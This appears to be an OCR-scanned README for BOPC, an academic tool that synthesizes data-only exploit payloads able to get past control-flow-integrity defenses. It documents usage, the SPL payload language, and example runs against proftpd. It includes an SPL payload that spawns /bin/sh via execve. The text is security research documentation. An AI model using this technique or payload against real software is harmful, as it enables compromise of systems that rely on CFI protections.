Block Oriented Programming -- Compiler

Project README

Block Oriented Programming Compiler (BOPC)

What is BOPC

NEW: The talk from CCS'18 presentation is available here.

BOPC (stands for BOP Compiler) is a tool forautomatically synthesizing arbitrary, Turing-complete, Data-Only payloads. BOPC finds execution traces in the binary that execute the desired payload while adhering to the binary's Control Flow Graph (CFG). This implies that the existing control flowhijacking defenses are not sufficient to detect this style of execution, as execution does never violates the Control Flow Integrity (CFI).

Essentially, we can say that Block Oriented Programming is code reuse under CFI.

BOPC works with basic blocks (hence the name "block-oriented"). What it does is to find a set of functional blocks (i.e., blocks that perform useful computations). This step is somewhat similar with finding Return Oriented Programming (ROP) gadgets. Having the functional blocks, BOPC looks for dispatcher blocks to that are used to stitch functional blocks together. Compared to ROP (that we can move from one gadget to the next without any limitation), here we can't do that as it would violate the CFI. Instead, BOPC finds a proper sequence for dispatcher blocks that naturally lead the execution from one functional block to the next one. Unfortunately the problem of building Data-Only payloads is NP-hard. However it turns out that in practice BOPC findssolution in a reasonable amount of time.

For more details on how BOPC works, please refer to our paper, and our slides from CCS'18.

To operate, BOPC requires 3 inputs:

  • A target binary that has an Arbitrary Memory Write (AWP) vulnerability (hard requirement)
  • The desired payload, expressed in a high level language called SPL (stands forSPloit Language)
  • The so-called "entry point", which is the first instruction in the binary that the payload execution should start. There can be more than one entry points and determining it is part of the vulnerability discovery process.

The output of BOPC is a set of "what-where" memory writes that indicate how the memory should be initialized (i.e., what values to write at which memory addresses). When the execution reaches the entry point and the memory is initialized according to the output of BOPC, the target binary execute the desired payload instead of continuing the original execution.

Disclaimer: This is a research project coded by a single guy. It's not a product, so do not expect it to work perfectly under all scenarios. It works nicely for the provided test cases, but beyond that we cannot guarantee that will work as expected.


Just run :)

How to use BOPC

BOPC started as a hacky project, soseveral changes made to adapt it into an scientific context. That is, the implementation in the paper is slightly different from the actual implementation, as we omitted several implementation details from the paper. Theactual implementation overview is shown below: alt text

Command line arguments explained

A good place to start are the command line arguments:

usage: [-h] [-b BINARY] [-a {save,load,saveonly}] [--emit-IR] [-d]
               [-dd] [-ddd] [-dddd] [-V] [-s SOURCE] [-e ENTRY]
               [-O {none,ooo,rewrite,full}] [-f {raw,idc,gdb}] [--find-all]
               [--mapping-id ID] [--mapping MAP [MAP ...]] [--enum-mappings]
               [--abstract-blk BLKADDR] [-c OPTIONS [OPTIONS ...]]

optional arguments:
  -h, --help            show this help message and exit

General Arguments:
  -b BINARY, --binary BINARY
                        Binary file of the target application
  -a {save,load,saveonly}, --abstractions {save,load,saveonly}
                        Work with abstraction file
  --emit-IR             Dump SPL IR to a file and exit
  -d                    Set debugging level to minimum
  -dd                   Set debugging level to basic (recommended)
  -ddd                  Set debugging level to verbose (DEBUG ONLY)
  -dddd                 Set debugging level to print-everything (DEBUG ONLY)
  -V, --version         show program's version number and exit

Search Options:
  -s SOURCE, --source SOURCE
                        Source file with SPL payload
  -e ENTRY, --entry ENTRY
                        The entry point in the binary that payload starts
  -O {none,ooo,rewrite,full}, --optimizer {none,ooo,rewrite,full}
                        Use the SPL optimizer (Default: none)
  -f {raw,idc,gdb}, --format {raw,idc,gdb}The format of the solution (Default: raw)
  --find-all            Find all the solutions

Application Capability:
  -c OPTIONS [OPTIONS ...], --capability OPTIONS [OPTIONS ...]
                        Measureapplication's capability. Options (can be many)
                        all Search for all Statements
                        regset  Search for Register Assignments
                        regmod  Search for Register Modifications
                        memrd   Search for Memory Reads
                        memwr   Search for Memory Writes
                        call    Search for Function/System Calls
                        cond    Search for Conditional Jumps
                        load    Load capabilities from file
                        save    Save capabilities to file
                        noedge  Dump statements and exit (don't calculate edges)

Debugging Options:
  --mapping-id ID       Run the Trace Searching algorithm on a given mapping ID
  --mapping MAP [MAP ...]Run the Trace Searching algorithm on a given register mapping
  --enum-mappings       Enumerate all possible mappings and exit
  --abstract-blk BLKADDR
                        Abstract a specific basic block and exit

Ok, there are a lot of options here (divided into 4 categories) as BOPC can do several things.

Let's start with the General Arguments. To avoid working directly with assembly, BOPC, "abstracts" each basic block into a set of "actions". For more details, please check Abstraction process symbolically executes each basic block in the binary and carefully monitors its actions. The abstraction process can take from a few minutes (for small binaries) to several hours (for the larger ones). Waiting that much every time that you want to run BOPC does not sound a good idea, so BOPC uses an old trick: caching.

The abstraction process depends on the binary and not on the SPL payload nor the entry point, so we only need to calculate them once per binary. Therefore, we have to calculate the abstractions only one time, then save them into a file and each time loading them. The save and saveonly options save the abstractions into a file. The only difference is that saveonly halts execution after it saves the abstractions, while save continues to search for a solution. As you can guess, the load option loads the abstractions from a file.

The --emit-IR option is used to "dump" the IR representation of the SPL payload (this is another intermediate result that you should not worry about it).

BOPC provides 5 verbosity levels: no option, -d, -dd, -ddd and -dddd. I recommend you to use either the -dd or the -ddd to get a detailed progress status.

Let's get into the Search Options options. The most important arguments here are the --source (which is a file that contains the SPL payload) and the --entry which is an address inside thebinary that indicates the entry point. Trace searching starts from the entry point, so this is quite important.

The optimizer (-O option) is double edge knife. On the one hand, it optimizes the SPL payload to make it more flexible. This means that it increases the likelihood to find a solution. On the other hand, the search space (along with the execution time) is increased. The decision is up to the user, hence the use of optimizer is optional. The 2 possible optimizations are the out of order execution (ooo option) and the statement rewriting (rewrite option).

The out-of-order optimization reorders payload statements. Consider for example the following SPL payload:

    __r0 = 13;
    __r1 = 37;

To find a solution here, BOPC must find a functional block for the first statement (__r0 = 13) then a functional block for the second statement (__r1 = 37) and a set of dispatcher blocks to connect these two statements. However these functional blocks may be far apart so a dispatcher may not exist. However there's no difference if you execute the __r0 = 13 statement first or second as it does not have any dependencies with the other statement. Thus if we rewrite the payload as follows:

    __r1 = 37;
    __r0 = 13;

It may be possible to find another set dispatcher blocks, hopefully much smaller (path A -> B may be much longer than path B -> A) and find a solution.

Internally, this is a two-step process. First the optimizer groups independent statements together (for more details take a look here) and generated and augmented SPL IR. Then, thetrace search module, permutes statements within each group, each time resulting in a different SPL payload. However all these payloads are equivalent. As you can guess there are can be an exponential number of permutations, so this can take forever. To alleviate that, you can adjust N_OUT_OF_ORDER_ATTEMPTS configuration parameter and tellBOPC to stop after trying N iterations, instead of trying all of them.

The statement rewriting is an under development optimization that rewrites some statements that do not exist in the binary. For instance if the SPL payload spawns a shell through 'execve()' but the target binary does not invoke execve() at all, then BOPC fails as there are no functional blocks for that statement. However, if the target binary invokes execv(), it may be possible to find a solution by replacing execve() with execv(). The optimizer contains a list of possible replacements, and adjust payload accordingly.

As we already explained, the output of BOPC is a set of "what-where" memory writes. There are several ways to express the output. For instance they can be raw lines containing the address, the value and the size of the data that should be written in memory. Or they can be a gdb/IDA script that can run directly on the debugger and modify the memory accordingly. The last option is the best one as it you only need to run the BOPC output into the debugger. Currently only the gdb format isimplemented.

The Application Capability options used to measure Application's capabilities, that gives us upper bounds onwhat payloads the target binary is capable of executing.

Finally the Debugging Options assist the audit/debugging/development process. They are used to bypass parts of the BOP work-flow. Do not use them unless you're doing changes in the code. Recall that BOPC finds a mapping between virtual and host registers along with a mapping between SPL variables and underlying memory addresses. If that mapping does not lead to a solution it goes back and tries another one. If you want to focus on a specific mapping (e.g., let's say that code crashes at mapping 458), you don't have to wait for BOPC to try the first 457 mappings first. By supplying the --mapping-id=458 option you can skip all mappings and focus on that one. In case that you don't know the mapping number but you know the actual mapping you can instead you the --mapping option: --mapping=__r0=rax__r1=rbx`

Finally, BOPC has a lot of configuration options. You see all of them in and adjust them according to our needs. The default values are a nice trade off between accuracy and performance that I found during then evaluation.


Let's see now how to actually use BOPC. The first thing to do is to get the basic block abstractions. This step is optional, but I expect that you are going to run BOPC several times, so it's a good idea to get the abstractions first:

./source/ -dd --binary $BINARY --abstractions saveonly

This calculates the abstractions and saves them into a file named $BINARY.abs. Don't forget to enable debugging to see the status on the screen.

Writing an SPL payload is pretty much like writing C:void payload()
    string prog = "/bin/sh\0";
    int argv    = {&prog, 0x0};

    __r0 = &prog;
    __r1 = &argv;
    __r2 = 0;
    execve(__r0, __r1, __r2);

Please take a look at the available payloads to see all features of SPL. Don't expect to write crazy program with SPL; Yes, in theory you can write any program. In practice the more complicated is the SPL payload, the more the complexity increases and the harder it gets to find a solution.

Running BOPC is as simple as the following:

./source/ -dd --binary $BINARY --source $PAYLOAD --abstractions load \
--entry $ENTRY --format gdb

If everything goes well an *.gdb file will be created that contains the set of memory writes to execute the desired payload.Pruning search space

A common problem is that there can be thousands of mappings (it's exponential based on the number of registers and variables that are used). Each mapping can take up to a minute to test (assuming out of order execution and other optimizations), so BOPC may run for days.

However, if you know approximately where a solution could be, you can ask BOPC to quickly find (and verify) it, without trying all mappings. Let's assume that you want to execute the following SPL payload:

void payload()
    string msg = "This is my random message! :)\0";

    __r0 = 0;
    __r1 = &msg;
    __r2 = 32;

    write( __r0, __r1, __r2 );

Because we have a system call, we know the register mapping: __r0 <-> rdi, __r1 <-> rsi, __r2 <-> rdx.

Let's assume thatwe're on proftpd binary which contains the following "all-in-one" functional block:

.text:000000000041D0B5 loc_41D0B5:
.text:000000000041D0B5        mov     edi, cs:scoreboard_fd ; fd
.text:000000000041D0BB        mov     edx, 20h        ; n
.text:000000000041D0C0        mov     esi, offset header ; buf
.text:000000000041D0C5        call    _write

The abstractions for this basic block, will be the following (recall that to get the abstractions for a single basic block, you need to pass the --abstract-blk 0x41D0B5 in the command line).

[22:02:07,822] [+] Abstractions for basic block 0x41d0b5:
[22:02:07,823] [+]          regwr :
[22:02:07,823] [+]      rsp = {'writable': True, 'const': 576460752303359992L, 'type': 'concrete'}
[22:02:07,823] [+]      rdi = {'sym': {}, 'memrd': None, 'type': 'deref', 'addr': <BV64 0x66e9e0>, 'deps': []}
[22:02:07,823] [+]      rsi = {'writable': True, 'const': 6787008L, 'type': 'concrete'}
[22:02:07,823] [+]      rdx = {'writable': False, 'const': 32L, 'type': 'concrete'}
[22:02:07,823] [+]          memrd : set([(<SAO <BV64 0x66e9e0>>, 32)])
[22:02:07,823] [+]          memwr : set([(<SAO <BV64 0x7ffffffffff07f8>>, <SAO <BV64 0x41d0ca>>)])
[22:02:07,823] [+]          conwr : set([(576460752303359992L, 64)])
[22:02:07,823] [+]       splmemwr : []
[22:02:07,823] [+]           call : {}
[22:02:07,823] [+]           cond : {}
[22:02:07,823] [+]        symvars : {}
[22:02:07,823] [*]Here, __r0 <-> rdi is loaded indirectly and the value of __r1 <-> rsi (which holds the msg variable) is 6787008 or 0x678fc0 in hex. Then we enumerate all possible mappings with the --enum-mappings option. Here, there are 287 possible mappinges, but there are instances that we have thousands of mappings:

If we look at the output we can quickly search for the appropriate mapping, which in our case is mapping #89:

[21:59:28,471] [*] Trying mapping #88:
[21:59:28,471] [*]  Registers: __r0 <-> rdi | __r1 <-> rsi | __r2 <-> rdx
[21:59:28,471] [*]  Variables: msg <-> *<BV64 0x7ffffffffff1440>
[21:59:28,614] [*] Trying mapping #89:
[21:59:28,614] [*]  Registers: __r0 <-> rdi | __r1 <-> rsi | __r2 <-> rdx
[21:59:28,614] [*]  Variables: msg <-> 0x678fc0L
[21:59:28,762] [*] Trying mapping #90:
[21:59:28,762] [*]  Registers: __r0 <-> rdi | __r1 <-> rsi | __r2 <-> rdx
[21:59:28,762] [*]  Variables: msg <-> *<BV64 r12_56287_64 + 0x28>
[22:00:04,709] [*] Trying mapping #287:
[22:00:04,709] [*]  Registers: __r0 <-> rdi | __r1 <-> rsi | __r2 <-> rdx
[22:00:04,709] [*]  Variables: msg <-> *<BV64 __add__(((0#32 .. rbx_294059_64[31:0]) << 0x5), r12_294068_64, 0x10)>
